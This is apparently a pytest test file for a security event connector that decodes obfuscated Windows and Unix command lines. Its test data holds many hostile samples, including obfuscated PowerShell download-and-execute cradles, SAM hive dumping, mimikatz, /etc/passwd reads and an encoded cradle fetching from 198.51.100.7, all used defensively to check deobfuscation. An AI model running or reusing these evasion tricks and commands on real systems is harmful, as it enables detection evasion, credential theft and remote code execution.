"""A disguised line reads as the plain one; an ordinary line is not touched; nobody can make the work grow."""

from __future__ import annotations

import gzip
from base64 import b64encode

import pytest
from hypothesis import given, settings, strategies as st

from connector.events import canonical, render
from connector.events.normalise import to_ecs
from connector.events.plain import plain
from connector.events.powershell import options
from tests import growth
from tests.events import strategies

DISGUISED = [
    ("cmd /c w^h^o^a^m^i ^/all", "cmd /c whoami /all"),
    ('w""hoami /priv', "whoami /priv"),
    ("'p'ower\"she\"ll -nop", "powershell -nop"),
    ('c:\\win"dow"s\\system32\\whoami.exe', "c:\\windows\\system32\\whoami.exe"),
    ("%programdata:~0,1%ertut%comspec:~4,1%l", "certutil"),
    ("%windir%\\system32\\cmd.exe", "c:\\windows\\system32\\cmd.exe"),
    ("!public:~-6!", "public"),
    ("i`e`x (n`ew-ob`ject net.webclient)", "iex (new-object net.webclient)"),
    ("&('i'+'e'+\"x\") $a", "iex $a"),
    ("(new-object net.webclient).('down'+'loadstring')", "(new-object net.webclient).downloadstring"),
    ("[ref].assembly.gettype('sys'+'tem.x')", "[ref].assembly.gettype('system.x')"),
    ('& ("{1}{0}" -f "ex","i") $x', "iex $x"),
    ("& ([char]105+[char]0x65+'x') $x", "iex $x"),
    ("&([char[]](105,101,120)-join'') $x", "iex $x"),
    ("& ($env:comspec[4,26,25]-join'') $x", "iex $x"),
    ("&($pshome[4]+$pshome[34]+'x') $x", "iex $x"),
    ("$b=$env:windir+'\\syswow64\\x'", "$b='c:\\windows\\syswow64\\x'"),
    ("ｒｅｇ ˢave hklm\\sam", "reg save hklm\\sam"),
    ("mimіkаtz “a” –b\u00a0c\u200b", 'mimikatz "a" -b c'),
    ("c:\\windows\\.\\temp\\..\\system32\\cmd.exe", "c:\\windows\\system32\\cmd.exe"),
    ("\\\\?\\c:\\progra~1\\x", "c:\\program files\\x"),
    ("powershell /noprof -win hid -executionpol byp -encod aaa", "powershell -nop -w hidden -ep bypass -enc aaa"),
]
ORDINARY = [
    'msiexec /i"c:\\a b.msi" /qn',
    "git show head^ --stat && git diff main^..dev",
    'findstr /r "^[a-z]*$" a.txt | find "x"',
    "python -c \"import sys; print(f'{sys.argv}')\"",
    "perl -e 'print\"hi\"'",
    'reg add hklm\\x /v "" /t reg_sz /d "a""b c"',
    'for /f "tokens=1" %i in (\'dir ^| find "x"\') do echo %i',
    "write-host \"it's 'done'\" -foregroundcolor green",
    "$x -join '+'",
    "'{0} of {1}' -f $a, $b",
    "привет мир",
    'cl -i"include" /fo"out" a.c',
    "dir /s /b *.log ; echo %errorlevel% !var!",
    "%comspec% /q /c echo cd ^> \\\\127.0.0.1\\c$\\__output 2^>^&1",
]


@pytest.mark.parametrize(("line", "wanted"), DISGUISED)
def test_a_disguised_line_reads_as_it_would_have_been_typed(line: str, wanted: str) -> None:
    assert plain(line) == wanted
    assert plain(wanted) == wanted


@pytest.mark.parametrize("line", ORDINARY)
def test_an_ordinary_line_is_not_touched(line: str) -> None:
    assert plain(line) == line


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("c\\at /etc/pa\\sswd", "cat /etc/passwd"),
        ("cat${ifs}/etc/passwd;who$@ami", "cat /etc/passwd;whoami"),
        ("w'h'o\"am\"i", "whoami"),
        ("sed 's/a\\nb/x/' \"a\\sb\"", "sed 's/a\\nb/x/' \"a\\sb\""),
    ],
)
def test_what_a_posix_shell_takes_away_is_taken_away_on_unix_alone(line: str, wanted: str) -> None:
    assert plain(line, unix=True) == wanted
    assert "\\" not in line or plain(line) == line


def test_options_are_read_up_to_the_command_and_no_further() -> None:
    assert options("powershell -c write-host -noprofile") == "powershell -command write-host -noprofile"
    assert options("powershell.exe -v 2 -nol -x -noprofile") == "powershell.exe -version 2 -nologo -x -noprofile"


def test_a_payload_of_a_payload_is_shown_plain() -> None:
    code = b"&('i'+'ex') (n`ew-object net.webclient).downloadstring('http://198.51.100.7/a') # some padding"
    document = {
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": 1,
            "event_data": {
                "Image": "powershell.exe",
                "CommandLine": "x '" + b64encode(gzip.compress(code)).decode() + "'",
            },
        }
    }
    kind, ecs = to_ecs(document)
    assert "iex (new-object net.webclient).downloadstring('http://public/a')" in render(canonical(ecs, kind))


_MARKS = [
    *list("^`'\"+-%!$\\./~:{}[]()&f0a ,"),
    "[char]",
    "'a'+",
    "-f",
    "$env:",
    "\\..\\",
    "%os:~",
    "powershell -",
    "а",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(_MARKS + list(strategies.PIECES)), max_size=40).map("".join), st.booleans())
def test_any_line_is_read_and_grows_by_no_more_than_variables_can_give(line: str, unix: bool) -> None:
    assert len(plain(line, unix=unix)) <= 64 * len(line) + 64


@pytest.mark.parametrize("piece", [*_MARKS, "'{0}", "a'b\"", "[char]1+", "a^", "-join", "\\a\\..", "'a'+$x+"])
@pytest.mark.full
def test_no_repeated_piece_makes_reading_it_slow(piece: str) -> None:
    def read(text: str) -> None:
        for start in range(0, len(text), 4096):
            plain(text[start : start + 4096], unix=True)

    assert growth.ratio(lambda size: piece * (size // len(piece)), read, 20_000) < growth.LINEAR
    assert plain(piece * 2000, unix=True) is not None
